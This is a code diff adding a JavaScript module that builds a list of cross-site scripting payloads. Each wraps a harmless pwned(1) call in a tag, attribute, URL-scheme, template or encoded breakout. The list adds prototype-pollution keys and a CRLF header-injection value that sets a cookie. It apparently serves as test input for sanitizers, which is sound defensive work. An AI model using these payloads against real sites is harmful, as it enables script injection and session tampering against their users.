@@ -1,0 +1,50 @@
+// What people put into addresses, forms and headers to make a page run their script.
+const CALLS = ["pwned(1)", "window.pwned(1)", "parent.pwned(1)"];
+
+const FORMS = [
+  (js) => `<script>${js}</script>`,
+  (js) => `"><script>${js}</script>`,
+  (js) => `'><script>${js}</script>`,
+  (js) => `</title><script>${js}</script>`,
+  (js) => `</script><script>${js}</script>`,
+  (js) => `<img src=x onerror=${js}>`,
+  (js) => `"><img src=x onerror="${js}">`,
+  (js) => `<svg onload=${js}>`,
+  (js) => `<svg><script>${js}</script></svg>`,
+  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
+  (js) => `<iframe srcdoc="<script>${js}</script>">`,
+  (js) => `<iframe src="javascript:${js}">`,
+  (js) => `<a href="javascript:${js}">x</a>`,
+  (js) => `javascript:${js}`,
+  (js) => `JaVaScRiPt:${js}`,
+  (js) => `java\tscript:${js}`,
+  (js) => `\u0001javascript:${js}`,
+  (js) => `data:text/html,<script>${js}</script>`,
+  (js) => `vbscript:${js}`,
+  (js) => `" onmouseover="${js}" x="`,
+  (js) => `' autofocus onfocus='${js}`,
+  (js) => `" style="animation-name:x" onanimationstart="${js}`,
+  (js) => `\${${js}}`,
+  (js) => `{{constructor.constructor('${js}')()}}`,
+  (js) => `';${js};//`,
+  (js) => `\\";${js};//`,
+  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
+  (js) => `<details open ontoggle=${js}>`,
+  (js) => `<body onload=${js}>`,
+  (js) => `<input autofocus onfocus=${js}>`,
+  (js) => `<object data="javascript:${js}">`,
+  (js) => `<embed src="javascript:${js}">`,
+  (js) => `<base href="javascript:${js}//">`,
+  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
+  (js) => `%3Cscript%3E${js}%3C/script%3E`,
+];
+
+/** A hundred and some. */
+export const PAYLOADS = [
+  ...FORMS.flatMap((form) => CALLS.map(form)),
+  "__proto__",
+  "constructor",
+  "\u202eevil",
+  "%00",
+  "%0d%0aSet-Cookie: a=b",
+];
